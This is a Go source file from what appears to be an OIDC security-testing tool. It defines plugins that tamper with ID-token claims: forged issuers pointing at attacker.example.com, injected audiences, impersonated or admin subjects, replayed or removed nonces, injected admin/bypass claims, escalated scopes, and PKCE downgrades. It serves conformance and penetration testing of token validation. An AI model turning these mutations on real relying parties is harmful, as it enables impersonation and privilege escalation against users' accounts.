package catalogue

import (
	"context"
	"strings"

	"github.com/loki-oidc/loki-splice/pkg/plugins"
)

// IssuerConfusion replaces the iss claim per mode.
var IssuerConfusion = plugins.Descriptor{
	ID:          "issuer-confusion",
	Name:        "Issuer Confusion",
	Description: "Replaces the iss claim with an attacker-controlled, typosquatted, empty, or null value.",
	Severity:    plugins.SeverityCritical,
	Phase:       plugins.PhaseTokenClaims,
	Spec: plugins.SpecRef{
		RFC:         "RFC 7519 §4.1.1",
		OIDC:        "OIDC Core 1.0 §2",
		Description: "Clients that don't pin the expected issuer accept tokens minted by an unrelated party.",
	},
	Apply: func(_ context.Context, mc plugins.Context) plugins.Result {
		tc, ok := asTokenContext(mc)
		if !ok {
			return notApplied()
		}
		before := tc.Token.Claims()["iss"]
		m := mode(tc.Config(), "evil")

		var after any
		switch m {
		case "similar":
			orig, _ := before.(string)
			after = typosquat(orig)
		case "empty":
			after = ""
		case "null":
			after = nil
		default: // evil
			after = configString(tc.Config(), "attacker_url", "https://attacker.example.com")
		}
		tc.Token.Claims()["iss"] = after

		return result(true, "replaced claims.iss ("+m+")", map[string]any{
			"mode": m, "before_iss": before, "after_iss": after,
		})
	},
}

func typosquat(issuer string) string {
	if issuer == "" {
		return "https://accounts-secure.example.com"
	}
	// crude, deterministic confusable: insert "-secure" before the host's first dot.
	const prefix = "://"
	idx := strings.Index(issuer, prefix)
	if idx < 0 {
		return issuer + "-secure"
	}
	host := issuer[idx+len(prefix):]
	return issuer[:idx+len(prefix)] + strings.Replace(host, ".", "-secure.", 1)
}

// AudienceConfusion mutates the aud claim per mode.
var AudienceConfusion = plugins.Descriptor{
	ID:          "audience-confusion",
	Name:        "Audience Confusion",
	Description: "Injects, replaces, removes, or wildcards the aud claim.",
	Severity:    plugins.SeverityCritical,
	Phase:       plugins.PhaseTokenClaims,
	Spec: plugins.SpecRef{
		RFC:         "RFC 7519 §4.1.3",
		Description: "Resource servers that don't validate aud accept tokens minted for a different relying party.",
	},
	Apply: func(_ context.Context, mc plugins.Context) plugins.Result {
		tc, ok := asTokenContext(mc)
		if !ok {
			return notApplied()
		}
		before := tc.Token.Claims()["aud"]
		m := mode(tc.Config(), "inject")
		attacker := configString(tc.Config(), "attacker_aud", "https://attacker.com")

		var after any
		switch m {
		case "replace":
			after = []string{attacker}
		case "remove":
			after = []string{}
		case "wildcard":
			after = "*"
		default: // inject
			after = appendAudience(before, attacker)
		}
		tc.Token.Claims()["aud"] = after

		return result(true, "mutated claims.aud ("+m+")", map[string]any{
			"mode": m, "before_aud": before, "after_aud": after,
		})
	},
}

func appendAudience(before any, attacker string) []string {
	switch v := before.(type) {
	case string:
		if v == "" {
			return []string{attacker}
		}
		return []string{v, attacker}
	case []string:
		return append(append([]string{}, v...), attacker)
	case []any:
		out := make([]string, 0, len(v)+1)
		for _, a := range v {
			if s, ok := a.(string); ok {
				out = append(out, s)
			}
		}
		return append(out, attacker)
	default:
		return []string{attacker}
	}
}

// SubjectManipulation mutates the sub claim per mode.
var SubjectManipulation = plugins.Descriptor{
	ID:          "subject-manipulation",
	Name:        "Subject Manipulation",
	Description: "Impersonates a victim, escalates to admin, or empties/numerates the sub claim.",
	Severity:    plugins.SeverityCritical,
	Phase:       plugins.PhaseTokenClaims,
	Spec: plugins.SpecRef{
		RFC:         "RFC 7519 §4.1.2",
		CWE:         "CWE-639",
		Description: "Servers relying solely on sub without signature re-verification are vulnerable to impersonation.",
	},
	Apply: func(_ context.Context, mc plugins.Context) plugins.Result {
		tc, ok := asTokenContext(mc)
		if !ok {
			return notApplied()
		}
		before := tc.Token.Claims()["sub"]
		m := mode(tc.Config(), "impersonate")

		var after any
		switch m {
		case "admin":
			after = "admin"
		case "empty":
			after = ""
		case "numeric":
			after = 1
		default: // impersonate
			after = configString(tc.Config(), "victim_sub", "victim-user-id")
		}
		tc.Token.Claims()["sub"] = after

		return result(true, "mutated claims.sub ("+m+")", map[string]any{
			"mode": m, "before_sub": before, "after_sub": after,
		})
	},
}

// TemporalTampering mutates exp/nbf/iat per mode.
var TemporalTampering = plugins.Descriptor{
	ID:          "temporal-tampering",
	Name:        "Temporal Claim Tampering",
	Description: "Sets exp in the past, nbf in the future, or iat in the future.",
	Severity:    plugins.SeverityHigh,
	Phase:       plugins.PhaseTokenClaims,
	Spec: plugins.SpecRef{
		RFC:         "RFC 7519 §4.1.4",
		Description: "Clock-claim validation bypass: expired tokens kept alive, or not-yet-valid tokens presented early.",
	},
	Apply: func(_ context.Context, mc plugins.Context) plugins.Result {
		tc, ok := asTokenContext(mc)
		if !ok {
			return notApplied()
		}
		m := mode(tc.Config(), "expired")
		now := unixNow()

		var field string
		var after int64
		switch m {
		case "future":
			field, after = "nbf", now+3600
		case "issued-future":
			field, after = "iat", now+3600
		default: // expired
			field, after = "exp", now-3600
		}
		before := tc.Token.Claims()[field]
		tc.Token.Claims()[field] = after

		return result(true, "set claims."+field+" ("+m+")", map[string]any{
			"mode": m, "field": field, "before": before, "after": after,
		})
	},
}

// NonceBypass mutates the nonce claim per mode.
var NonceBypass = plugins.Descriptor{
	ID:          "nonce-bypass",
	Name:        "Nonce Bypass",
	Description: "Removes, replays, empties, or mismatches the nonce claim.",
	Severity:    plugins.SeverityHigh,
	Phase:       plugins.PhaseTokenClaims,
	Spec: plugins.SpecRef{
		OIDC:        "OIDC Core 1.0 §3.1.3.7",
		Description: "Nonce validation prevents ID token replay; bypassing it enables replay attacks.",
	},
	Apply: func(_ context.Context, mc plugins.Context) plugins.Result {
		tc, ok := asTokenContext(mc)
		if !ok {
			return notApplied()
		}
		before := tc.Token.Claims()["nonce"]
		m := mode(tc.Config(), "remove")

		var after any
		switch m {
		case "replay":
			after = "static-replayed-nonce-0000"
			tc.Token.Claims()["nonce"] = after
		case "empty":
			after = ""
			tc.Token.Claims()["nonce"] = after
		case "mismatch":
			after = "nonce-" + randomHex(8)
			tc.Token.Claims()["nonce"] = after
		default: // remove
			delete(tc.Token.Claims(), "nonce")
			after = nil
		}

		return result(true, "mutated claims.nonce ("+m+")", map[string]any{
			"mode": m, "before_nonce": before, "after_nonce": after,
		})
	},
}

// StateBypass injects/tampers state-adjacent claims per mode.
var StateBypass = plugins.Descriptor{
	ID:          "state-bypass",
	Name:        "State / AZP Bypass",
	Description: "Injects a state claim, tampers azp, or adds a block of debug/admin/bypass claims.",
	Severity:    plugins.SeverityHigh,
	Phase:       plugins.PhaseTokenClaims,
	Spec: plugins.SpecRef{
		RFC:         "RFC 6749 §10.12",
		Description: "CSRF-state and authorized-party validation bypass.",
	},
	Apply: func(_ context.Context, mc plugins.Context) plugins.Result {
		tc, ok := asTokenContext(mc)
		if !ok {
			return notApplied()
		}
		m := mode(tc.Config(), "add-claims")
		evidence := map[string]any{"mode": m}

		switch m {
		case "inject-state":
			tc.Token.Claims()["state"] = "forged-state-" + randomHex(6)
			evidence["added"] = "state"
		case "tamper-azp":
			before := tc.Token.Claims()["azp"]
			tc.Token.Claims()["azp"] = configString(tc.Config(), "attacker_client_id", "attacker-client")
			evidence["before_azp"] = before
			evidence["after_azp"] = tc.Token.Claims()["azp"]
		default: // add-claims
			for k, v := range map[string]any{
				"_debug": true, "admin": true, "role": "admin",
				"permissions": []string{"*"}, "bypass_validation": true,
			} {
				tc.Token.Claims()[k] = v
			}
			evidence["added"] = []string{"_debug", "admin", "role", "permissions", "bypass_validation"}
		}

		return result(true, "applied state-bypass ("+m+")", evidence)
	},
}

// ScopeInjection mutates the scope claim per mode.
var ScopeInjection = plugins.Descriptor{
	ID:          "scope-injection",
	Name:        "Scope Injection",
	Description: "Injects, replaces, escalates, or removes the scope claim.",
	Severity:    plugins.SeverityHigh,
	Phase:       plugins.PhaseTokenClaims,
	Spec: plugins.SpecRef{
		RFC:         "RFC 6749 §3.3",
		Description: "Privilege escalation through unchecked scope widening.",
	},
	Apply: func(_ context.Context, mc plugins.Context) plugins.Result {
		tc, ok := asTokenContext(mc)
		if !ok {
			return notApplied()
		}
		before, _ := tc.Token.Claims()["scope"].(string)
		m := mode(tc.Config(), "inject")

		var after any
		switch m {
		case "replace":
			after = configString(tc.Config(), "replacement_scope", "admin")
		case "admin":
			after = strings.TrimSpace(before + " admin:read admin:write admin:delete superuser")
		case "remove":
			delete(tc.Token.Claims(), "scope")
			return result(true, "removed claims.scope", map[string]any{
				"mode": m, "before_scope": before,
			})
		default: // inject
			after = strings.TrimSpace(before + " admin write:all delete:all")
		}
		tc.Token.Claims()["scope"] = after

		return result(true, "mutated claims.scope ("+m+")", map[string]any{
			"mode": m, "before_scope": before, "after_scope": after,
		})
	},
}

// PKCEDowngrade injects/weakens PKCE-adjacent claims per mode.
var PKCEDowngrade = plugins.Descriptor{
	ID:          "pkce-downgrade",
	Name:        "PKCE Downgrade",
	Description: "Injects a code_challenge, weakens acr/amr, or backdates auth_time.",
	Severity:    plugins.SeverityMedium,
	Phase:       plugins.PhaseTokenClaims,
	Spec: plugins.SpecRef{
		RFC:         "RFC 7636",
		Description: "Weakens proof-key binding and authentication-strength signaling.",
	},
	Apply: func(_ context.Context, mc plugins.Context) plugins.Result {
		tc, ok := asTokenContext(mc)
		if !ok {
			return notApplied()
		}
		m := mode(tc.Config(), "inject-code-challenge")
		evidence := map[string]any{"mode": m}

		switch m {
		case "weaken-method":
			tc.Token.Claims()["acr"] = "0"
			tc.Token.Claims()["amr"] = []string{"pwd"}
			evidence["acr"] = "0"
			evidence["amr"] = []string{"pwd"}
		case "add-auth-time":
			authTime := unixNow() - 30*24*3600
			tc.Token.Claims()["auth_time"] = authTime
			evidence["auth_time"] = authTime
		default: // inject-code-challenge
			tc.Token.Claims()["code_challenge"] = randomHex(32)
			tc.Token.Claims()["code_challenge_method"] = "plain"
			evidence["code_challenge_method"] = "plain"
		}

		return result(true, "applied pkce-downgrade ("+m+")", evidence)
	},
}

// All token-claims phase plugins, in the order spec.md §4.B lists them.
var TokenClaimsPlugins = []plugins.Descriptor{
	IssuerConfusion, AudienceConfusion, SubjectManipulation, TemporalTampering,
	NonceBypass, StateBypass, ScopeInjection, PKCEDowngrade,
}

// All token-signing phase plugins, in declared order.
var TokenSigningPlugins = []plugins.Descriptor{
	AlgNone, KeyConfusion, KidManipulation, TokenTypeConfusion,
}
